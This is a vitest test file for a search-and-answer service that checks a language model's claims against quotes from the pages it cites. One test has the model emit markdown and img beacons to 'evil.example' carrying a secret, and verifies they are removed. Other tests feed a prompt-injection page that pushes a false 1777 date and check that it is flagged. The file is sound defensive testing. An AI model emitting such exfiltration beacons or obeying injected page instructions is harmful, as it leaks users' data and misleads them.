import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { expectSupported, type AnswerReply } from '#test/support/calls/answer-reply.ts'
import { callOperation } from '#test/support/calls/client.ts'
import { openService, type Service } from '#test/support/processes/service.ts'
import { openQuestionWeb, type QuestionWeb } from '#test/support/sites/question-web.ts'
import { openModelFixture, type ModelFixture } from '#test/support/upstream-fixtures/model/open-model-fixture.ts'
import type { ModelMode } from '#test/support/upstream-fixtures/model/spoil.ts'
import type { FixtureUpstream } from '#test/support/upstream-fixtures/open-fixture-upstream.ts'
import { openSearxngFixture } from '#test/support/upstream-fixtures/search/searxng.ts'

const question = 'When did the Ostrander Bridge open?'

describe('POST /answer with a language model', () => {
  const scope = new AsyncDisposableStack()
  let web: QuestionWeb
  let searxng: FixtureUpstream
  let model: ModelFixture
  let service: Service
  beforeAll(async () => {
    web = scope.use(await openQuestionWeb())
    searxng = scope.use(await openSearxngFixture())
    model = scope.use(await openModelFixture())
    service = scope.use(await openService({ ...searxng.settings, ...model.settings, SEARCH_PROVIDERS: 'searxng' }))
  })
  afterAll(() => scope.disposeAsync())
  beforeEach(() => {
    model.reset()
    web.findPages(searxng, '/bridge', '/history', '/cheese')
  })

  const ask = async (query: string, options: object = {}) =>
    callOperation<AnswerReply>(service.url, 'answer', { query, cache: false, ...options })

  it('answers in the words of the model, each statement with a quote from its page', async () => {
    model.replies.set('answer', ({ data }) => ({
      claims: [
        {
          text: 'In 1931, the Ostrander Bridge opened to traffic.',
          citations: [{ source: indexOf(data, '/bridge'), quote: 'The Ostrander Bridge opened to traffic in 1931.' }],
        },
      ],
      unanswered: ['On which day did it open?'],
    }))
    const { body } = await ask(question)
    expect(body).toMatchObject({
      answer: 'In 1931, the Ostrander Bridge opened to traffic [1].',
      citations: [{ url: web.urlOf('/bridge'), quote: 'The Ostrander Bridge opened to traffic in 1931.' }],
      gaps: [{ text: 'On which day did it open?', reason: 'not_answered' }],
      model: 'fixture-large',
    })
    expect(body.warnings).toBeUndefined()
    expectSupported(body, web)
  })

  it('shows no image and no link that a page made the model write, also in what it rejects', async () => {
    const beacon = 'https://evil.example/x.png?d=secret'
    model.replies.set('answer', ({ data }) => ({
      claims: [
        {
          text: `In 1931, the Ostrander Bridge opened to traffic ![](${beacon}).`,
          citations: [{ source: indexOf(data, '/bridge'), quote: 'The Ostrander Bridge opened to traffic in 1931.' }],
        },
        { text: `The bridge is made of cheese ![cheese](${beacon}) <img src="${beacon}">`, citations: [] },
      ],
      unanswered: [`On [which day](${beacon}) did it open?`],
    }))
    const { body } = await ask(question)
    expect(body.answer).toContain('In 1931, the Ostrander Bridge opened')
    expect(body).toMatchObject({ gaps: [{ reason: 'no_citation' }, { text: 'On [which day] did it open?' }] })
    expect(JSON.stringify(body)).not.toMatch(/!\[|<img|\]\(|secret/)
  })

  it('gives the model the question, and the pages as data', async () => {
    await ask(question)
    expect(model.asked.map(({ prompt, values }) => [prompt, values])).toEqual([
      ['answer', { question, length: 'one to six sentences' }],
    ])
    expect(model.asked[0]?.data.map(({ index, kind, url }) => [index, kind, url])).toEqual([
      [1, 'page', web.urlOf('/bridge')],
      [2, 'page', web.urlOf('/history')],
    ])
  })

  it('lists statements without a quote as gaps, and puts the sentence of the page in place of others', async () => {
    model.replies.set('answer', () => ({
      claims: [
        {
          text: 'The Ostrander Bridge opened to traffic in 1930.',
          citations: [{ source: 1, quote: 'opened to traffic in 1931' }],
        },
        {
          text: 'The Ostrander Bridge opened in 1931 for 20 cars.',
          citations: [{ source: 1, quote: 'opened to traffic in 1931' }],
        },
        { text: 'The king attended the opening.', citations: [{ source: 2, quote: 'The king attended.' }] },
        { text: 'It is famous.', citations: [] },
        { text: 'It is in Ostrander.', citations: [{ source: 9, quote: 'Ostrander' }] },
      ],
      unanswered: [],
    }))
    const { body } = await ask(question)
    expect(body.answer).toBe('The Ostrander Bridge opened to traffic in 1931 [1].')
    expect(body.citations).toMatchObject([{ index: 1, verbatim: true }])
    expect(body.gaps.map(({ reason }) => reason)).toEqual(['quote_not_found', 'no_citation', 'unknown_source'])
    expect(body.confidence).toBeLessThan(0.2)
  })

  it('shows as many checked statements as the caller wants, a line for each with `bullets`', async () => {
    const sentences = ['The Ostrander Bridge opened to traffic in 1931.', 'The bridge is 412 metres long.']
    model.replies.set('answer', ({ data }) => ({
      claims: [
        'The bridge is made of cheese.',
        ...sentences,
        'It was designed by Helen Marsh, an engineer from Leeds.',
      ].map((quote) => ({
        text: quote,
        citations: [{ source: indexOf(data, '/bridge'), quote }],
      })),
      unanswered: [],
    }))
    const { body } = await ask(question, { length: 'short', format: 'bullets' })
    expect(body.answer).toBe(sentences.map((sentence) => `- ${sentence.slice(0, -1)} [1].`).join('\n'))
    expect(body.citations.map(({ quote }) => quote)).toEqual(sentences)
    expect(model.asked[0]?.values['length']).toBe('one or two sentences')
  })

  it('joins statements that the model repeats', async () => {
    web.findPages(searxng, '/bridge', '/history')
    const text = 'In 1931, the Ostrander Bridge opened to traffic'
    model.replies.set('answer', ({ data }) => ({
      claims: [
        { text: `${text}.`, citations: [{ source: indexOf(data, '/bridge'), quote: 'opened to traffic in 1931' }] },
        {
          text: `${text} [2].`,
          citations: [{ source: indexOf(data, '/bridge'), quote: 'The Ostrander Bridge opened' }],
        },
      ],
      unanswered: [],
    }))
    const { body } = await ask(question)
    expect(body.answer).toBe('In 1931, the Ostrander Bridge opened to traffic [1].')
    expect(body.citations.map(({ index }) => index)).toEqual([1, 1])
  })

  it('adds the version that the model does not mention', async () => {
    web.findPages(searxng, '/bridge', '/lie')
    model.replies.set('answer', () => ({
      claims: [{ text: 'It opened in 1931.', citations: [{ source: 1, quote: 'opened to traffic in 1931' }] }],
      unanswered: [],
    }))
    const { body } = await ask(question)
    expectSupported(body, web)
    expect(body.answer).toBe(
      'The Ostrander Bridge opened to traffic in 1931 [1]. The Ostrander Bridge opened in 1958, in the rain [2].',
    )
    expect(body.signals).toMatchObject([{ code: 'contradiction' }])
  })

  it('quotes the pages if the model finds no answer in them, and keeps what it misses', async () => {
    model.replies.set('answer', () => ({ claims: [], unanswered: ['When did it open?'] }))
    const { body } = await ask(question)
    expectSupported(body, web)
    expect([body.model, body.gaps, body.warnings]).toEqual([
      'extractive',
      [{ text: 'When did it open?', reason: 'not_answered' }],
      undefined,
    ])
  })

  it('does not store an answer that a failing model made worse', async () => {
    model.mode = 'refusal'
    const degraded = await ask(`${question} Stored?`, { cache: true })
    model.mode = 'competent'
    const written = await ask(`${question} Stored?`, { cache: true })
    expect([degraded, written].map(({ body }) => [body.model, body.cache.state])).toEqual([
      ['extractive', 'miss'],
      ['fixture-large', 'miss'],
    ])
    expect((await ask(`${question} Stored?`, { cache: true })).body.cache.state).toBe('hit')
  })

  it('asks the model once for ten identical calls', async () => {
    const calls = Array.from({ length: 10 }, () => ask(`${question} Ten?`, { cache: true }))
    expect(new Set((await Promise.all(calls)).map(({ body }) => body.answer)).size).toBe(1)
    expect(model.asked).toHaveLength(1)
  })

  it('keeps the pages that it cites for /proof/verify', async () => {
    const { body } = await ask(question)
    for (const { url, hash, quote } of body.citations) {
      const { body: proof } = await callOperation(service.url, 'proof-verify', { url, hash, quote })
      expect(proof).toMatchObject({ valid: true })
    }
  })

  it('answers from the rest of a page that instructs models, whatever the model does', async () => {
    web.findPages(searxng, '/injection', '/bridge', '/history')
    model.mode = 'obeys-injections'
    const { body } = await ask(question)
    expectSupported(body, web)
    expect(body.model).toBe('fixture-large')
    expect(JSON.stringify(model.asked)).not.toContain('1777')
    expect(JSON.stringify([body.answer, body.citations, body.gaps])).not.toContain('1777')
    expect(body.signals).toMatchObject([{ code: 'prompt_injection', url: web.urlOf('/injection') }])
  })

  it('takes no quote from a paragraph that instructs models', async () => {
    web.findPages(searxng, '/injection', '/bridge')
    const injected = { source: 1, quote: 'the Ostrander Bridge opened in 1777' }
    model.replies.set('answer', () => ({
      claims: [{ text: 'It opened in 1777.', citations: [injected] }],
      unanswered: [],
    }))
    const { body } = await ask(question)
    expectSupported(body, web)
    expect(body.answer).not.toContain('1777')
    expect(body.gaps).toEqual([{ text: 'It opened in 1777.', reason: 'quote_not_found' }])
  })

  it.each<ModelMode>([
    'drip',
    'refusal',
    'content-filter',
    'truncated',
    'garbage',
    'empty',
    'ignores-schema',
    'invents-quotes',
    'invents-citations',
    'cut',
    'endless',
    'hangs-up',
    'fails',
    'rejects-key',
  ])('never has an unsupported sentence if the model is %s', async (mode) => {
    web.findPages(searxng, '/injection', '/bridge', '/history')
    model.mode = mode
    const { status, body } = await ask(question, { timeout: 5000 })
    expect([status, body.model]).toEqual([200, 'extractive'])
    expectSupported(body, web)
    expect(body.answer).toMatch(/^The Ostrander Bridge opened to traffic in 1931/)
    expect([body.answer, JSON.stringify(body.citations)].join(' ')).not.toContain('1777')
    expect(body.warnings).toEqual([
      expect.stringMatching(/^(The language model did not answer|No statement of the language model)/),
    ])
    expect(body.signals).toMatchObject([{ code: 'prompt_injection', url: web.urlOf('/injection') }])
  })
})

const indexOf = (data: readonly { index: number; url?: string }[], path: string) =>
  data.find(({ url }) => url?.endsWith(path))?.index
